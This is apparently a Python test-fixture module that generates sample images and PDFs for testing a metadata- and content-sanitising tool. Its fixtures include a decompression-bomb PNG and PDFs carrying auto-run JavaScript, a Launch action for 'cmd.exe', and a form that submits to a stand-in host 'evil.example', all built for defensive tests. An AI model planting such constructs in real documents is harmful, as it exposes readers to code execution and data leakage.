"""Papers for tests, made on the spot: whole ones, and ones that try something."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

SECRET = "Quillfeather"
"""Stands in the metadata of each paper; no kept paper may hold it."""


def png(width: int = 6, height: int = 4, *, say: str = SECRET) -> bytes:
    """A picture with a text chunk."""
    from PIL.PngImagePlugin import PngInfo

    about = PngInfo()
    about.add_text("Author", say)
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 40)).save(out, "PNG", pnginfo=about)
    return out.getvalue()


def jpeg(width: int = 32, height: int = 16, *, orientation: int = 1) -> bytes:
    """A photograph with what a phone writes into it: where, when, whose, and how it was held."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x013B] = SECRET
    exif[0x8825] = {1: "N", 2: (40.0, 26.0, 46.0), 3: "W", 4: (79.0, 58.0, 56.0)}
    out = io.BytesIO()
    left = Image.new("RGB", (width, height), (250, 250, 250))
    left.paste((10, 10, 10), (0, 0, width // 2, height))
    left.save(out, "JPEG", exif=exif, comment=SECRET.encode(), quality=95)
    return out.getvalue()


def bomb(side: int) -> bytes:
    """A PNG of a few kilobytes that says it is `side` pixels wide and high."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    data = zlib.compress(b"\0" * 100_000, 9)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdf(change: str = "", *, pages: int = 1) -> bytes:
    """A PDF with metadata and a photograph; `change` names what else is in it."""
    made = Pdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(100, 100))
    with made.open_metadata() as about:
        about["dc:creator"] = [SECRET]
    made.docinfo["/Author"] = SECRET
    photograph = Stream(made, jpeg(), Type=Name.XObject, Subtype=Name.Image, Width=32, Height=16, Filter=Name.DCTDecode)
    photograph.ColorSpace, photograph.BitsPerComponent = Name.DeviceRGB, 8
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=made.make_indirect(photograph)))
    made.pages[0].PieceInfo = Dictionary(Tool=Dictionary(Private=String(SECRET)))
    if change:
        _CHANGES[change](made)
    out = io.BytesIO()
    locked = pikepdf.Encryption(owner="a", user="b") if change == "locked" else False
    made.save(out, encryption=locked)
    return out.getvalue()


def _annotated(made: Pdf, **fields: object) -> None:
    note = Dictionary(Type=Name.Annot, Rect=[0, 0, 1, 1], **fields)
    made.pages[0].Annots = Array([made.make_indirect(note)])


def _attached(made: Pdf) -> None:
    made.attachments["a.txt"] = b"hidden"


_CHANGES = {
    "locked": lambda made: None,
    "opens a script": lambda made: made.Root.__setattr__(
        "OpenAction", Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    ),
    "names a script": lambda made: made.Root.__setattr__(
        "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS="1")])))
    ),
    "starts a program": lambda made: _annotated(
        made, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))
    ),
    "sends a form away": lambda made: _annotated(
        made, Subtype=Name.Link, AA=Dictionary(D=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))
    ),
    "plays": lambda made: _annotated(made, Subtype=Name.Screen),
    "holds a file": _attached,
    "is an XFA form": lambda made: made.Root.__setattr__("AcroForm", Dictionary(XFA=String("<x/>"), Fields=Array())),
    "links": lambda made: _annotated(
        made, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org"))
    ),
    "is signed": lambda made: made.Root.__setattr__("AcroForm", Dictionary(SigFlags=3, Fields=Array())),
}
